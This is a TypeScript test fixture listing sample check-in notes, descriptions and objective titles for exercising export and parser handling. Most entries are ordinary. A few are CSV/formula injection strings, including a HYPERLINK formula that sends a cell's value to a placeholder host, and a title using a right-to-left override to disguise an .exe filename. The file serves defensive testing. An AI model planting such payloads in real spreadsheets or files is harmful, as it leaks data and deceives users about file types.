/** Lists what people write into descriptions and check-ins, ordinary and odd: some of it runs in a spreadsheet or breaks a parser. */

export const notes: readonly [string, ...string[]] = [
  'As planned.',
  'Good week: two large shops went live.',
  'Waiting for the supplier; expect news on Thursday.',
  'We lost a week to the migration.\nBack on course from Monday.',
  'Numbers are in; better than hoped.',
  'Scope cut after the review: the second market moves to next quarter.',
  'Blocked by hiring. Talked to Recruiting; two candidates this week.',
  'Au-dessus de l’objectif ; on continue.',
  '先週より改善しています。',
  'تقدم جيد هذا الأسبوع',
  'Smaller step than planned, same direction 🙂',
  'Changed how we count; earlier figures are not comparable.\n- old: by order\n- new: by shop',
  'He said "wait"; then, "go"',
  '-2 points against last week, +5 against last month',
  '=HYPERLINK("https://example.invalid/?x="&A1,"See the board")',
  '\t=1+1',
];

export const descriptions: readonly [string, ...string[]] = [
  '',
  '',
  '',
  'Why: shops told us so in the spring survey.',
  'First line of the description.\nSecond line; with a semicolon, and a comma.',
  'See the plan in the team folder. Owner’s deputy: ask in the channel.',
  'Counts active contracts only (no trials).',
  '=SUM(B2:B9) is how we count it',
  '<b>Important</b>: agreed with the [board](https://example.invalid/board)',
  '@everyone please update by Friday',
];

/** Titles as people do write them; each is put on one row of a view. */
export const oddTitles: readonly [string, ...string[]] = [
  '+15% net revenue retention in the installed base',
  '-20% cost per delivery',
  '@mentions answered within the hour',
  '=HYPERLINK("https://example.invalid/?x="&A1,"Q plan")',
  'Ship the <b>new</b> pricing page & retire the old one',
  'Win the **must-win** deals [list](https://example.invalid/deals)',
  'Send invoices as invoice\u202efdp.exe to nobody',
  'Hit 100% of “green” checks, “amber” is not “green”, says \u200bthe board',
  'لا عطل في نهاية الأسبوع (zero weekend outages)',
  'A title that somebody wrote in a hurry and at great length because the review was in ten minutes and everything had to be in it: ' +
    'the customers, the partners, the margin, the new office and the people who will work there once it is open',
  '+49 30 5550 100 is answered in ten seconds',
  '=1+1 mentoring: each new manager has two mentors',
];
